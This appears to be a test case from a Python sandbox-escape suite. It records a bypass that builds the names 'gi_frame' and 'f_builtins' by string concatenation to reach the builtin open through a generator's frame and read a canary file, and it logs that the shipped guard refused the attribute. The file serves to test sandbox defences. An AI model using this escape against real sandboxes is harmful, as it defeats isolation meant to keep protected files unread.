# Technique   the same by names put together
# Mechanism   getattr with gi_ and f_
# As shipped  failed: AttributeError: the attribute 'gi_frame' is refused: it reaches the frame of a generator
# Unguarded   blocked: openat

g = (x for x in ())
return getattr(getattr(g, "gi_" + "frame"), "f_" + "builtins")["open"](CANARY_FILE).read()
